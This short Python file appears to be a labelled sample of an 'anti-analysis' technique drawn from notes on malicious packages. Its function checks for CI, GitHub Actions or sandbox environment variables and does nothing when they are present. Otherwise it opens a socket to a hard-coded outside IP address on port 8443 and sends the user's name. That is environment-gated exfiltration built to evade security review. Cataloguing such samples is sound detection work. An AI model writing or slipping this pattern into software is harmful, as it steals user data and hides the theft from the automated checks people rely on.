# technique: stay quiet on CI/analysis machines (CI env vars), act elsewhere
# class: anti-analysis
# source: Datadog Security Labs and Socket notes on environment-gated payloads
# declares: env
import os
import socket


def maybe():
    if any(k in os.environ for k in ("CI", "GITHUB_ACTIONS", "SANDBOX")):
        return
    s = socket.socket()
    s.connect(("68.183.212.246", 8443))
    s.send(os.environ.get("USER", "").encode())
